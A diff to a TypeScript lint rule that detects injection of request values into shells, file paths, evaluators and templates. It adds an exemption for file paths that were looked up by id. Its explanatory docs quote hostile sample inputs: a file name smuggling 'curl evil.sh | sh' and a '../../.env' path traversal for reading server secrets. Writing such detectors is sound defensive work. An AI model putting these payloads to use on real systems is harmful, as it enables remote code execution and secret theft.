@@ -3,7 +3,9 @@ import {
   checkOfPart,
   defineRule,
   isChecked,
+  isLookedUp,
   keepsBelowFolder,
+  looksOnItsWay,
   nameOfRequestValue,
   type Passing,
   type ProjectModel,
@@ -46,7 +48,7 @@ export default defineRule({
   docs: {
     why: `A shell, an evaluator and the file system all do as they are told. A file name such as \`a; curl evil.sh | sh\` runs whatever follows the semicolon; \`../../.env\` hands out the secrets of the server; a template that a client writes can call any function of Node. One such place gives away the machine, not just a row of data.`,
     howToFix: `Commands: \`execFile\` or \`spawn\` with a list of arguments and without a shell, so that each argument stays one. Files: take \`path.basename(name)\`, or resolve the path and check that it begins with the folder; Express's \`sendFile(name, { root })\` does it. Code and modules: look up a name in a table of what is allowed. Templates: keep their text constant and pass values as data.`,
-    whenNotToFollow: `Where running what somebody sends is the purpose, such as in a sandbox for code, suppress the rule and say what contains it. The rule is silent where a value is held against a list or a pattern in the same function, or where a schema checks that part of the request.`,
+    whenNotToFollow: `Where running what somebody sends is the purpose, such as in a sandbox for code, suppress the rule and say what contains it. The rule is silent where a value is held against a list or a pattern in the same function, or where a schema checks that part of the request, or, for files, where a row was read under that id before.`,
   },
   examples,
   check({ path, facts, model, report }) {
@@ -143,6 +145,19 @@ function isHarmless(
   model: ProjectModel,
 ): boolean {
   if (isChecked(text, call.fact, facts)) return true;
-  if (kind === 'path' && (keepsBelowFolder(call.fact, facts) || text.source.part === 'address')) return true;
+  if (kind === 'path' && isHarmlessPath(text, call, facts, model)) return true;
   return checkOfPart(text.source, model) === 'yes';
+}
+
+function isHarmlessPath(
+  text: RequestText,
+  call: ResolvedCall,
+  facts: TypeScriptFacts,
+  model: ProjectModel,
+): boolean {
+  return (
+    text.source.part === 'address' ||
+    looksOnItsWay(text, call.fact, facts, model, keepsBelowFolder) ||
+    isLookedUp(text, call, model)
+  );
 }
